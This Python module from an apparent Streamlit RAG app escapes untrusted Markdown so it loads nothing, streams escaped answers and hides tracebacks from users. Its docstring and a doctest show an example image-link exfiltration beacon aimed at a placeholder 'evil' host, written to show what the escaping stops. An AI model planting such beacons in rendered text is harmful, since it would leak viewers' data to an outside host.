"""Safe rendering for a shared server: untrusted text as inert Markdown, and one guard that turns
every exception into an ``st.error`` (never a traceback in the browser).

Untrusted text is anything a user, a document or the model wrote: answers, questions, chunk and
document text, titles, citation snippets, names. Streamlit renders Markdown in the browser (with
``unsafe_allow_html=False`` it still loads ``![](url)`` images), so such text could make every
viewer's browser fetch a URL of the writer's choosing — an exfiltration beacon such as
``![x](http://evil/?q=secret)``. :func:`escape_markdown` neutralises the few constructs that make
the browser load something or that change the text itself, and keeps the rest (emphasis, lists,
headings, links that need a click).
"""

from __future__ import annotations

import time

import logging
from collections.abc import Iterable, Iterator
from contextlib import contextmanager
from typing import TYPE_CHECKING

import streamlit as st
from pydantic import ValidationError

from ragtune.errors import InputError, RagtuneError
from ragtune.inert import inert_markdown

if TYPE_CHECKING:
    from streamlit.delta_generator import DeltaGenerator

logger = logging.getLogger("ragtune.app")

CURSOR = "▌"
#: The least time between two redraws of a streaming answer: each redraw costs the server and the browser
#: CPU that the model needs on a small machine (measured by `bench --only demo`'s browser figures).
STREAM_INTERVAL_S = 0.15


class Redraws:
    """When each streaming slot may be redrawn: its first token at once, then at most every
    :data:`STREAM_INTERVAL_S` (the finished answer is drawn whole by the caller)."""

    def __init__(self, interval_s: float = STREAM_INTERVAL_S) -> None:
        self._interval_s = interval_s
        self._last: dict[int, float] = {}

    def due(self, slot: int) -> bool:
        now = time.monotonic()
        if now - self._last.get(slot, now - self._interval_s) >= self._interval_s:
            self._last[slot] = now
            return True
        return False



def escape_markdown(text: str) -> str:
    """``text`` as Markdown that loads nothing and contains no HTML (the rule is
    :func:`ragtune.inert.inert_markdown`, shared with the exported Markdown).

    Examples:
        >>> escape_markdown("![x](http://evil/?q=1) <img src=x> costs $5")
        '!\\\\[x](http://evil/?q=1) &lt;img src=x> costs \\\\$5'
    """
    return inert_markdown(text)


def inline_code(text: str) -> str:
    """``text`` as one Markdown code span, whatever backticks it contains (ids, file names)."""
    longest = run = 0
    for char in text:
        run = run + 1 if char == "`" else 0
        longest = max(longest, run)
    fence = "`" * (longest + 1)
    pad = " " if text.startswith("`") or text.endswith("`") or not text.strip() else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def render_untrusted_text(text: str, *, empty: str = "_(empty answer)_",
                          container: DeltaGenerator | None = None) -> None:
    """Draw text a user, a document or the model wrote, as Markdown that loads nothing."""
    target = container if container is not None else st
    target.markdown(escape_markdown(text) if text else empty)


def write_untrusted_stream(chunks: Iterable[str], *, container: DeltaGenerator | None = None) -> str:
    """Stream text into ``container`` (a new placeholder by default), escaped as it grows; returns it.

    ``st.write_stream`` would render the raw text as Markdown. Escaping each chunk on its own is
    not enough (``!`` and ``[`` may arrive in two chunks), so the whole text so far is escaped
    and redrawn each time.
    """
    slot = container if container is not None else st.empty()
    text = ""
    for chunk in chunks:
        text += str(chunk)
        slot.markdown(escape_markdown(text) + CURSOR)
    slot.markdown(escape_markdown(text) if text else "_(empty answer)_")
    return text


def error_message(exc: Exception) -> str:
    """What a user is told about ``exc``: a RagtuneError's own message, a translated
    ValidationError, or only the exception's type for anything else (details go to the log)."""
    if isinstance(exc, RagtuneError):
        return str(exc)
    if isinstance(exc, ValidationError):
        return str(InputError.from_validation(exc, what="That input is invalid"))
    return (f"Something went wrong: {type(exc).__name__}. The details are in the server log; "
            "if it happens again, tell whoever runs this server.")


@contextmanager
def errors_shown(where: str) -> Iterator[None]:
    """Run a page (or the sidebar) so that no exception reaches the browser as a traceback.

    RagtuneError and pydantic ValidationError are shown as their message; any other exception
    is shown by its type only and logged with its traceback (the server log). Streamlit's own
    control flow (``st.rerun``, ``st.stop``) derives from BaseException and passes through.
    """
    try:
        yield
    except (RagtuneError, ValidationError) as exc:
        st.error(error_message(exc))
    except Exception as exc:
        logger.exception("Unexpected error in %s", where)
        st.error(error_message(exc))
